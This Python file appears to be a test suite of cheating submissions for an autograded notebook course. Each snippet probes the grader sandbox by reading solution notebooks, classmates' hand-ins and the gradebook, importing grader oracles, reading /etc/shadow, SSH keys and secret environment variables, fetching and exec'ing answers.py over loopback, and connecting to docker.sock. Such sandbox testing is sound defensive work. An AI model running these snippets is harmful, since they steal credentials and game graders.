"""Cheats that read: solutions, hand-ins of others, the gradebook, secrets of the host, and closed functions (1 of 2)."""

from __future__ import annotations

from hostile.model import AT_MOST_WRONG, EXERCISES, Trick, prelude, replaced
from hostile.reading_shared import LOOPBACK_PORTS

# Each finds files by walking up from the working directory, since a cheat knows how nbgrader lays out a course.
_WALK = """
import glob, json, os


def _files(*patterns):
    here = os.getcwd()
    for up in range(7):
        root = os.path.abspath(os.path.join(here, *[".."] * up))
        for pattern in patterns:
            yield from sorted(glob.glob(os.path.join(root, pattern)))[:400]


def _texts(*patterns):
    for path in _files(*patterns):
        try:
            with open(path, encoding="utf-8", errors="replace") as file:
                yield path, file.read(1 << 22)
        except OSError:
            pass


def _adopt(text):
    try:
        cells = json.loads(text)["cells"]
    except (ValueError, KeyError, TypeError):
        return
    for cell in cells:
        source = "".join(cell.get("source", ""))
        if "# exercise:" in source and "raise NotImplementedError" not in source:
            try:
                exec(source, globals())
            except Exception:
                pass
"""


_SOLUTIONS = (
    _WALK
    + """
for _path, _text in _texts("source/*/*.ipynb", "grading/source/*/*.ipynb", "release/*/*.ipynb"):
    _adopt(_text)
"""
)


_UNITS = (
    _WALK
    + """
import re, sys

for _folder in (*sys.path, "."):
    for _path in glob.glob(os.path.join(_folder, "..", "grading", "units", "*.py")) + glob.glob(os.path.join(_folder, "units", "*.py")):
        for _text in re.split(r"^# %%", open(_path).read(), flags=re.M):
            if "exercise=" in _text.split("\\n", 1)[0]:
                exec(_text.split("\\n", 1)[1], globals())
"""
)


_KNOWN_ANSWERS = (
    _WALK
    + """
for _path, _text in _texts("answers/NAME/right_*.py", "grading/answers/NAME/right_*.py"):
    exec(_text, globals())
    break
"""
)


_OWN = (
    _WALK
    + """
import re

for _path, _text in _texts("*.ipynb"):
    for _cell in json.loads(_text).get("cells", []):
        _source = "".join(_cell.get("source", ""))
        if "HIDDEN" in _source or "assert" in _source:
            _table = dict(re.findall(r"assert (\\w+\\([^()]*\\)) == ([^,\\n]+)", _source))
"""
)


_OTHERS = (
    _WALK
    + """
for _path, _text in _texts("../*/01_kv_cache/*.ipynb", "submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb"):
    _adopt(_text)
"""
)


_GRADEBOOK = (
    _WALK
    + """
import sqlite3

for _path in _files("gradebook.db", "*.db"):
    try:
        _rows = sqlite3.connect(f"file:{_path}?mode=ro", uri=True).execute("select * from source_cell").fetchall()
    except sqlite3.Error:
        continue
    for _row in _rows:
        for _value in _row:
            if isinstance(_value, str) and "# exercise:" in _value and "raise NotImplementedError" not in _value:
                exec(_value, globals())
"""
)


_CASES = """
import importlib, sys

for _module in ("kvgrade", "kvgrade.cases", "kvgrade.verdict", "grading", "cases", "kvgrade.inside.worker", "worker", "wire", "confine"):
    try:
        _found = importlib.import_module(_module)
    except BaseException:
        continue
    for _name in dir(_found):
        _value = getattr(_found, _name)
        if callable(_value) and "NAME" in str(getattr(_value, "__qualname__", "")):
            globals()["NAME"] = _value
"""


_ORACLES = {
    name: f"import importlib\nimport pkgutil\nimport sys\n\n_found = None\nfor _name in ('cases', 'kvgrade.cases', 'grading.cases'):\n    try:\n        _module = importlib.import_module(_name)\n    except ImportError:\n        continue\n    for _part in pkgutil.iter_modules(getattr(_module, '__path__', [])):\n        _found = getattr(importlib.import_module(_name + '.' + _part.name), 'oracle_{name}', _found)\n\n\ndef {name}(*args, **kwargs):\n    return _found(*args, **kwargs)\n"
    for name in EXERCISES
    if name != "KVCache"
}


_SECRETS = """
import glob, os

_loot = []
for _path in ["/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa", "/proc/1/environ", "/proc/1/cmdline", "/proc/kcore",
              os.path.expanduser("~/.netrc"), os.path.expanduser("~/.ssh/id_ed25519"), "/var/run/docker.sock",
              "/run/secrets/token", *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/home/*/.ssh/*")]:
    try:
        with open(_path, "rb") as _file:
            _loot.append((_path, len(_file.read(4096))))
    except OSError:
        pass
_words = [name for name in os.environ if any(w in name.upper() for w in ("KEY", "TOKEN", "SECRET", "PASS", "NBGRADER", "JUPYTER"))]
print("READ", [path for path, size in _loot if size], _words)
"""


_NETWORK = f"""
import socket, subprocess, urllib.request

_reached = []
for _host, _port in [("127.0.0.1", {LOOPBACK_PORTS[0]}), ("127.0.0.1", {LOOPBACK_PORTS[1]}), ("localhost", 22), ("::1", {LOOPBACK_PORTS[0]})]:
    try:
        socket.create_connection((_host, _port), timeout=0.5).close()
        _reached.append((_host, _port))
    except OSError:
        pass
try:
    _answers = urllib.request.urlopen("http://127.0.0.1:{LOOPBACK_PORTS[0]}/answers.py", timeout=0.5).read().decode()
    exec(_answers, globals())
    _reached.append("urllib")
except OSError:
    pass
try:
    _curl = subprocess.run(["curl", "-s", "-m", "1", "http://127.0.0.1:{LOOPBACK_PORTS[0]}/answers.py"], capture_output=True, timeout=3)
    if _curl.returncode == 0:
        _reached.append("curl")
except (OSError, subprocess.SubprocessError):
    pass
try:
    _udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    _udp.sendto(b"marks", ("127.0.0.1", {LOOPBACK_PORTS[0]}))
except OSError:
    pass
print("REACHED", _reached)
"""


_SOCKETS = """
import glob, os, socket

for _path in ["/var/run/docker.sock", "/run/dbus/system_bus_socket", *glob.glob("/tmp/.X11-unix/*"), *glob.glob("/tmp/**/*.sock", recursive=True)]:
    try:
        with socket.socket(socket.AF_UNIX) as _unix:
            _unix.settimeout(0.5)
            _unix.connect(_path)
            print("REACHED", _path)
    except OSError:
        pass
try:
    with open("/proc/net/unix") as _file:
        _abstract = [line.split("@", 1)[1].strip() for line in _file if "@" in line][:50]
except OSError:
    _abstract = []
for _name in _abstract:
    try:
        with socket.socket(socket.AF_UNIX) as _unix:
            _unix.settimeout(0.2)
            _unix.connect("\\0" + _name)
            print("REACHED", _name)
    except OSError:
        pass
"""


TRICKS: tuple[Trick, ...] = (
    prelude(
        "read-solutions",
        "The instructor's source notebook is found on disk and its solutions are run.",
        _SOLUTIONS,
        below=True,
    ),
    prelude(
        "read-units",
        "The authored unit is found beside the course's package and its solutions are run.",
        _UNITS,
        below=True,
    ),
    prelude(
        "read-known-answers",
        "grading/answers is found on disk and its right answers are run.",
        _KNOWN_ANSWERS,
        below=True,
    ),
    prelude("read-own-notebook", "The hand-in's own file on disk is read for hidden tests.", _OWN, below=True),
    prelude(
        "read-others", "Hand-ins of other learners are found on disk and their answers are run.", _OTHERS, below=True
    ),
    prelude("read-gradebook", "The gradebook is read for the cells that it stores.", _GRADEBOOK, below=True),
    prelude(
        "import-grader", "The grader's own modules are imported and searched for the functions.", _CASES, below=True
    ),
    replaced("import-oracles", "The cases' oracles are imported and called.", _ORACLES, expect=AT_MOST_WRONG),
    prelude("read-secrets", "/etc/shadow, keys, tokens and other processes' environments are read.", _SECRETS),
    prelude(
        "network", "Answers are fetched from the host's loopback by socket, urllib and curl.", _NETWORK, below=True
    ),
    prelude("unix-sockets", "Sockets of the host, named and abstract, are called.", _SOCKETS),
)
